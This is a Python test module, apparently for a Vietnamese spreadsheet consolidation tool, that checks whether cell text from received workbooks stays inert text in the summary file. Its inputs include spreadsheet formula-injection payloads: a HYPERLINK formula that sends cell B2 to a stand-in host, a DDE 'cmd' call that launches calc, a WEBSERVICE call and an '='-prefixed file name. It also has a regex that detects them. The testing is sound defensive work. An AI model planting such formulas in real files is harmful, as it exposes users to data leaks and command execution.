"""Text in what was received that would come to life in a careless program's output."""

import re
from functools import partial
from pathlib import Path

from danvan_xl.jobs.consolidate import save_summary
from tests.cases.case import Case, Section, told
from tests.cases.inbox import BAD, received
from tests.cases.packing import STRINGS, part, parts_of, write_zip
from tests.on_disk import HEADER, save
from tests.sheets import grid, info

_LINK = '=HYPERLINK("http://ke-gian.example/?x=" & B2; "Bấm vào đây")'
_ALIVE = re.compile(rb"<f[ >][^<]*(?:HYPERLINK|cmd|WEBSERVICE|ke-gian)|ddeLink|externalLink")


def _written(cell: str, folder: Path, name: str = "Thôn 2", file: str = BAD) -> str:
    """Return what is said of a text in T1, once it is seen that the output holds it as text."""

    def write(path: Path) -> None:
        table = grid(f"{HEADER}\n| K | Kinh tế | Chỉ tiêu K | cái | 10 | | | |")
        rows = [list(row) for row in table.rows]
        rows[1][5] = cell.replace("=", "'=", 1)
        save(path, info(Mã_đơn_vị="A.2", Tên_đơn_vị=name, Năm=2026), table._replace(rows=rows))
        parts = parts_of(path)
        parts[STRINGS] = parts[STRINGS].replace(b"'=", b"=")
        write_zip(path, [(part_name, part(data)) for part_name, data in parts.items()])

    job = received(folder, write, file)
    output = folder / "tong-hop.xlsx"
    save_summary(job, output)
    for entry, data in parts_of(output).items():
        assert not _ALIVE.search(data), entry
        assert b'Target="http' not in data, entry
    said = told(item for item in job.result.issues if item.place.file == file)
    return f"{said}<br>Tệp tổng hợp: chỉ có chữ, không có công thức hay đường liên kết nào từ đó"


SECTION = Section(
    "Chữ có thể thành lệnh",
    "Chữ trong tệp nhận được vào tệp tổng hợp chỉ là chữ: không thành công thức, liên kết, DDE.",
    [
        Case("Ô tháng ghi chữ là công thức liên kết", partial(_written, _LINK)),
        Case("Ô tháng ghi chữ gọi DDE", partial(_written, "=cmd|' /C calc'!A0")),
        Case("Ô tháng ghi chữ +, @", partial(_written, "@SUM(1+1)*cmd|' /C calc'!A0")),
        Case("Tên đơn vị là công thức", partial(_written, "nhiều", name='=WEBSERVICE("ke-gian")')),
        Case("Tên tệp là công thức", partial(_written, "nhiều", file="=cmd.xlsx")),
        Case("Ô tháng có 10.000 chữ", partial(_written, "rất nhiều " * 1000)),
    ],
)
